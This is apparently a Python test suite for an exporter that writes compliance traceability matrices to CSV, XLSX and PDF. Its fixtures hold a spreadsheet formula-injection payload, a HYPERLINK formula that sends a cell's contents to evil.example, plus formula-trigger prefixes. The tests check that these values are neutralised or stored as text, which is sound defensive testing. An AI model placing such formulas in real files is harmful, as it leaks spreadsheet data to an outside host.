"""Traceability matrix files: CSV, XLSX and PDF from synthetic rows, hostile text included."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.domain.traceability import COLUMNS, HEADERS, KEYS, EvidenceCell, MatrixRow
from app.exporters.matrix_files import (
    MatrixMeta,
    neutralise,
    safe_sheet_name,
    summarise,
    write_csv,
    write_xlsx,
)

openpyxl = pytest.importorskip("openpyxl")
pdfium = pytest.importorskip("pypdfium2")

HIPAA_REF = "§ 164.308(a)(1)(ii)(A)"
LONG = ("The controller keeps a record of processing; " * 70)[:3000]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

META = MatrixMeta(
    title="Traceability matrix — test", generated_at="2026-11-26T10:15:00Z",
    audit_head="ab12cd34ef56" + "0" * 52, audit_head_seq=4242, workspace="Acme ML",
    filters={"regulation": "", "status": "approved", "as_of": "2026-11-26"},
    classification="CONFIDENTIAL")


def ev(n: int, status: str, until: str = "2027-01-31") -> EvidenceCell:
    return EvidenceCell(f"EV-{n}", f"Evidence <{n}> & co", f"{n:064x}", "2026-01-02", until,
                        status)


def hostile_rows() -> list[MatrixRow]:
    return [
        MatrixRow("GDPR", "2016/679", "Art. 32(1)(a)", HOSTILE_TITLE, "Security of processing",
                  control_id="C-1", control_name="<b>&amp; encryption", control_owner="[/b]",
                  control_status="implemented", relationship="subset-of", strength=7,
                  coverage="partial", rationale=LONG, review_status="approved",
                  evidence=(ev(1, "current"), ev(2, "expired", "")),
                  test_procedure="-1 restore drill", test_result="pass",
                  test_date="2026-10-01", tester="@ops", risks=(("RK-1", "high"), ("RK-2", ""))),
        MatrixRow("HIPAA", "2013-01-25", HIPAA_REF, "Risk analysis\nand management",
                  "+summary with\r\nCRLF", control_id="C-2", control_name="Risk register",
                  control_status="partial", relationship="equivalent-to", strength=10,
                  coverage="full", rationale="line one\nline two", review_status="draft",
                  evidence=(ev(3, "expiring"),)),
        MatrixRow("HIPAA", "2013-01-25", "§ 164.308(a)(5)", "Security awareness ≤ training",
                  "\tTabbed summary", gap=True),
        MatrixRow("EU AI Act", "2024/1689", "Art. 9(2)", "Risk management system",
                  "Not for us", applicability="not applicable",
                  applicability_justification="No high-risk system"),
    ]


def many_rows(n: int) -> list[MatrixRow]:
    codes = (("GDPR", "2016/679"), ("EU AI Act", "2024/1689"), ("HIPAA", "2013-01-25"))
    rows = []
    for i in range(n):
        code, version = codes[i % 3]
        gap = i % 10 == 9
        rows.append(MatrixRow(
            code, version, f"REF-{i:04d}", f"Clause title number {i} about things",
            "A summary " * 5, gap=gap,
            control_id="" if gap else f"C-{i % 17}",
            control_name="" if gap else "Access control & logging",
            control_status="" if gap else ("implemented", "planned", "partial")[i % 3],
            strength=None if gap else i % 10,
            rationale="" if gap else "Because the control does what the clause asks. " * (
                1 + i % 4),
            review_status="" if gap else ("draft", "reviewed", "approved")[i % 3],
            evidence=() if gap or i % 2 else (ev(i, ("current", "expiring", "expired")[i % 3]),)))
    return rows


# ------------------------------------------------------------------ CSV


def test_csv_reads_back_with_formulas_neutralised(tmp_path: Path) -> None:
    rows = hostile_rows()
    path = tmp_path / "m.csv"
    assert write_csv(rows, path, META) == len(rows)
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in data.replace(b"\r\nCRLF", b"")  # LF line ends (bar the cell's CRLF)
    with path.open(encoding="utf-8", newline="") as fh:
        back = list(csv.reader(fh))
    assert back[0] == list(HEADERS)
    assert back[1:] == [[neutralise(c) for c in r.cells()] for r in rows]
    first = dict(zip(KEYS, back[1], strict=True))
    assert first["clause_title"] == "'" + HOSTILE_TITLE
    assert first["test_procedure"] == "'-1 restore drill"
    assert first["tester"] == "'@ops"
    assert first["control_name"] == "<b>&amp; encryption"  # not a formula: unchanged
    assert first["rationale"] == LONG
    assert first["evidence_valid_until"] == "2027-01-31; —"
    second = dict(zip(KEYS, back[2], strict=True))
    assert second["clause_ref"] == HIPAA_REF
    assert second["summary"] == "'+summary with\r\nCRLF"
    assert second["clause_title"] == "Risk analysis\nand management"
    assert dict(zip(KEYS, back[3], strict=True))["summary"] == "'\tTabbed summary"


def test_csv_for_excel_has_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    write_csv(hostile_rows(), path, META, excel=True)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    header_line = data[3:].split(b"\r\n", 1)[0].decode()
    assert header_line == ",".join(HEADERS)
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert back[2][KEYS.index("clause_ref")] == HIPAA_REF


def test_csv_with_no_rows_has_the_header(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    write_csv([], path, META)
    assert path.read_text(encoding="utf-8") == ",".join(HEADERS) + "\n"


# ------------------------------------------------------------------ XLSX


def test_sheet_names_are_safe_and_unique() -> None:
    taken = {"summary", "matrix"}
    names = [safe_sheet_name(n, taken) for n in
             ("GDPR", "a/b:c*d?e[f]g\\h", "x" * 40, "x" * 40, "gdpr", "Summary", "'quoted'", "")]
    assert names[0] == "GDPR"
    assert names[1] == "a_b_c_d_e_f_g_h"
    assert names[2] == "x" * 31 and names[3].endswith(" (2)") and len(names[3]) == 31
    assert names[4] == "gdpr (2)"
    assert names[5] == "Summary (2)"
    assert names[6] == "quoted"
    assert names[7] == "Regulation"
    assert len({n.lower() for n in names}) == len(names)
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)


def test_xlsx_sheets_formats_and_values(tmp_path: Path) -> None:
    rows = hostile_rows() + many_rows(60)
    path = tmp_path / "m.xlsx"
    assert write_xlsx(rows, path, META) == len(rows)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "GDPR", "HIPAA", "EU AI Act"]  # no all-rows sheet

    summary = wb["Summary"]
    labels = {summary.cell(r, 1).value: summary.cell(r, 2).value
              for r in range(1, summary.max_row + 1)}
    assert summary["A1"].value == META.title
    assert labels["Audit head"] == META.audit_head
    assert labels["Audit head sequence"] == 4242
    assert labels["Classification"] == "CONFIDENTIAL"
    assert labels["Workspace"] == "Acme ML"
    assert labels["Filter: status"] == "approved"
    assert labels["Filter: as of"] == "2026-11-26"
    assert "Filter: regulation" not in labels  # empty filters are not listed
    stats = summarise(rows)
    assert labels["Rows"] == len(rows) == stats["rows"]
    assert labels["Mappings"] == stats["mappings"] == sum(bool(r.control_id) for r in rows)
    assert labels["Rows with a gap"] == sum(r.gap for r in rows)
    assert labels["Gaps (uncovered clauses)"] == stats["gaps"]

    per_sheet = {"GDPR": [r for r in rows if r.regulation == "GDPR"],
                 "HIPAA": [r for r in rows if r.regulation == "HIPAA"],
                 "EU AI Act": [r for r in rows if r.regulation == "EU AI Act"]}
    last_col = openpyxl.utils.get_column_letter(len(COLUMNS))
    for name, expected in per_sheet.items():
        ws = wb[name]
        assert ws.max_row == len(expected) + 1, name
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{last_col}{len(expected) + 1}"
        assert [c.value for c in ws[1]] == list(HEADERS)
        assert all(c.font.b for c in ws[1])
        assert ws["A1"].fill.fgColor.rgb.endswith("1F3864")
        for letter, (_, _, width) in zip("ABCDE", COLUMNS, strict=False):
            assert ws.column_dimensions[letter].width == pytest.approx(width, abs=1)
        rationale = openpyxl.utils.get_column_letter(KEYS.index("rationale") + 1)
        first = next(i for i, r in enumerate(expected, start=2) if r.rationale)
        assert ws[f"{rationale}{first}"].alignment.wrap_text
        assert [ws.cell(i + 2, 3).value for i in range(len(expected))] == \
            [r.clause_ref for r in expected]

    col = {k: i + 1 for i, k in enumerate(KEYS)}

    def cell(n: int, key: str):  # type: ignore[no-untyped-def]
        """The cell of rows[n] in its regulation's sheet."""
        same = [i for i, r in enumerate(rows) if r.regulation == rows[n].regulation]
        return wb[rows[n].regulation].cell(same.index(n) + 2, col[key])

    assert cell(0, "clause_title").value == HOSTILE_TITLE  # text, not a formula
    assert cell(0, "clause_title").data_type == "s"
    assert cell(0, "control_name").value == "<b>&amp; encryption"
    assert cell(0, "rationale").value == LONG
    assert cell(0, "strength").value == 7  # a number
    assert cell(0, "evidence_status").value == "current; expired"
    assert cell(0, "evidence_status").fill.fgColor.rgb.endswith("FFC7CE")  # worst wins
    assert cell(1, "evidence_status").fill.fgColor.rgb.endswith("FFEB9C")  # expiring
    assert cell(0, "control_status").fill.fgColor.rgb.endswith("C6EFCE")
    assert cell(1, "clause_ref").value == HIPAA_REF
    first = cell(0, "clause_ref")
    assert 15 < first.parent.row_dimensions[first.row].height <= 15 * 6  # a sane height
    assert cell(2, "gap").value == "yes"
    assert cell(2, "clause_ref").fill.fgColor.rgb.endswith("FBE0E0")
    assert cell(0, "clause_ref").fill.fill_type is None  # not a gap: no tint
    for name in per_sheet:
        for row in wb[name].iter_rows(min_row=2):
            for c in row:
                assert c.data_type in ("s", "n"), c.coordinate


def test_xlsx_with_no_rows(tmp_path: Path) -> None:
    path = tmp_path / "m.xlsx"
    write_xlsx([], path, META)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Matrix"]  # an empty sheet with the headers
    assert [c.value for c in wb["Matrix"][1]] == list(HEADERS)


# ------------------------------------------------------------------ PDF


def _text(page) -> str:  # type: ignore[no-untyped-def]
    tp = page.get_textpage()
    try:
        return tp.get_text_range()
    finally:
        tp.close()


def test_pdf_pages_header_footer_and_order(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import PRINT_HEADERS, write_matrix_pdf

    rows = hostile_rows() + many_rows(300)
    path = tmp_path / "m.pdf"
    assert write_matrix_pdf(rows, path, META) == len(rows)
    pdf = pdfium.PdfDocument(path)
    try:
        n = len(pdf)
        assert n > 1
        texts = [_text(pdf[i]) for i in range(n)]
        for i in (0, n - 1):
            flat = " ".join(texts[i].split())
            for header in ("Clause", "Control name", "Mapping rationale", "Evidence"):
                assert header in flat, (i, header)
            assert f"Page {i + 1} of {n}" in flat
            assert "CONFIDENTIAL" in flat
            assert "generated from audit head ab12cd34ef560000" in flat
            assert "generated from audit head ab12cd34ef560000 (#4242)" in flat  # 16 hex
        assert set(PRINT_HEADERS) <= set(" ".join(" ".join(texts[0].split()).split()).split(
            " ")) | {"Clause title", "Control name", "Control status", "Mapping rationale",
                     "Latest test"}
        everything = " ".join(" ".join(texts).split())
        squeezed = "".join(everything.split())  # a cell may wrap anywhere
        # hostile text printed as written, not obeyed
        assert "<b>&amp; encryption" in everything
        assert "[/b]" in everything
        assert "".join(HOSTILE_TITLE.split()) in squeezed
        assert HIPAA_REF in everything
        assert "≤" in everything  # Symbol font carries it
        # every row's clause, in order
        pos = -1
        for row in rows:
            found = squeezed.find("".join(row.clause_ref.split()), pos + 1)
            assert found > pos, row.clause_ref
            pos = found
        # the 3,000-character rationale is printed whole
        assert everything.count("The controller keeps a record of processing;") == 3000 // 45 + (
            1 if 3000 % 45 >= 44 else 0)
    finally:
        pdf.close()


def test_pdf_renders_and_pages_are_saved_for_review(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    path = tmp_path / "m.pdf"
    write_matrix_pdf(hostile_rows() + many_rows(300), path, META)
    out = Path("/tmp/matrix_pages")
    out.mkdir(exist_ok=True)
    pdf = pdfium.PdfDocument(path)
    try:
        for i in (0, len(pdf) // 2):
            image = pdf[i].render(scale=1).to_pil()
            dark = sum(image.convert("L").histogram()[:100])
            assert dark > 2000, (i, dark)
            image.save(out / f"page_{i + 1}.png")
    finally:
        pdf.close()


def test_pdf_is_byte_identical_for_the_same_input(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    rows = hostile_rows() + many_rows(40)
    a, b = tmp_path / "a.pdf", tmp_path / "b.pdf"
    write_matrix_pdf(rows, a, META)
    write_matrix_pdf(list(rows), b, META)
    assert a.read_bytes() == b.read_bytes()
    assert b"D:20261126101500+00'00'" in a.read_bytes()
    other = MatrixMeta(**{**{f: getattr(META, f) for f in META.__slots__},
                          "generated_at": "2026-11-27T00:00:00Z"})
    c = tmp_path / "c.pdf"
    write_matrix_pdf(rows, c, other)
    assert c.read_bytes() != a.read_bytes()


def test_pdf_metadata(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    path = tmp_path / "m.pdf"
    write_matrix_pdf(many_rows(5), path, META)
    pdf = pdfium.PdfDocument(path)
    try:
        meta = pdf.get_metadata_dict()
        w, h = pdf.get_page_size(0)
    finally:
        pdf.close()
    assert meta["Title"] == META.title
    assert meta["Subject"] == "Traceability matrix"
    assert meta["Producer"] == "Crosswalk (ReportLab)"
    assert meta["CreationDate"].startswith("D:20261126101500")
    assert (round(w), round(h)) == (1191, 842)  # A3 landscape


def test_pdf_characters_outside_the_fonts(tmp_path: Path) -> None:
    from app.exporters import pdf_style
    from app.exporters.matrix_pdf import write_matrix_pdf

    cjk = MatrixRow("PIPL", "2021", "第十三条", "个人信息 Привет", "s")
    fonts = pdf_style.pick_fonts([cjk.clause_title])
    if fonts.embedded:  # DejaVu on this machine: Cyrillic kept, CJK as "?"
        assert fonts.clean("个人信息 Привет") == "???? Привет"
    else:
        assert fonts.clean("个人信息 Привет") == "???? ??????"
    no_dejavu = pdf_style.pick_fonts([cjk.clause_title], font_dirs=[])
    assert not no_dejavu.embedded
    assert no_dejavu.clean("§ ≤ — 个") == "§ ≤ — ?"
    path = tmp_path / "m.pdf"
    write_matrix_pdf([cjk, *hostile_rows()], path, META)
    pdf = pdfium.PdfDocument(path)
    try:
        text = " ".join(_text(pdf[i]) for i in range(len(pdf)))
    finally:
        pdf.close()
    squeezed = "".join(text.split())
    assert "????Привет" in squeezed or "????????" in squeezed
    assert "".join(HIPAA_REF.split()) in squeezed
    a, b = tmp_path / "a.pdf", tmp_path / "b.pdf"
    write_matrix_pdf([cjk], a, META)
    write_matrix_pdf([cjk], b, META)
    assert a.read_bytes() == b.read_bytes()  # reproducible with an embedded font too


def test_pdf_with_no_rows(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    path = tmp_path / "m.pdf"
    write_matrix_pdf([], path, META)
    pdf = pdfium.PdfDocument(path)
    try:
        assert "No rows match the filters." in _text(pdf[0])
    finally:
        pdf.close()


# ------------------------------------------------------------------ atomic writes


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_missing_folder_is_an_error_and_leaves_nothing(tmp_path: Path, fmt: str) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    writer = {"csv": write_csv, "xlsx": write_xlsx, "pdf": write_matrix_pdf}[fmt]
    target = tmp_path / "missing" / f"m.{fmt}"
    with pytest.raises(FileNotFoundError):
        writer(hostile_rows(), target, META)
    assert not (tmp_path / "missing").exists()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_failure_midway_keeps_the_old_file_and_no_temp(tmp_path: Path, fmt: str) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    writer = {"csv": write_csv, "xlsx": write_xlsx, "pdf": write_matrix_pdf}[fmt]
    target = tmp_path / f"m.{fmt}"
    target.write_bytes(b"old")

    class Boom(MatrixRow):
        __slots__ = ()

        def cells(self) -> list[str]:
            raise RuntimeError("boom")

        def value(self, key: str) -> str:
            raise RuntimeError("boom")

    bad = Boom("GDPR", "1", "Art. 1", "t", "s", evidence=object())  # type: ignore[arg-type]
    with pytest.raises((RuntimeError, TypeError)):
        writer([*hostile_rows(), bad], target, META)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_pdf_row_taller_than_a_page_is_split_not_lost(tmp_path: Path) -> None:
    from app.exporters.matrix_pdf import write_matrix_pdf

    huge = MatrixRow("GDPR", "2016/679", "Art. 1", "t", "s", control_id="C-1",
                     rationale="word " * 8000,
                     evidence=tuple(ev(i, "current") for i in range(150)))
    path = tmp_path / "m.pdf"
    write_matrix_pdf([huge, *hostile_rows()], path, META)
    pdf = pdfium.PdfDocument(path)
    try:
        n = len(pdf)
        text = " ".join(_text(pdf[i]) for i in range(n))
        assert n > 2
        assert all("Mapping rationale" in _text(pdf[i]) for i in range(n))
    finally:
        pdf.close()
    assert text.count("word") == 8000
    assert text.count("EV-") == 150 + 3
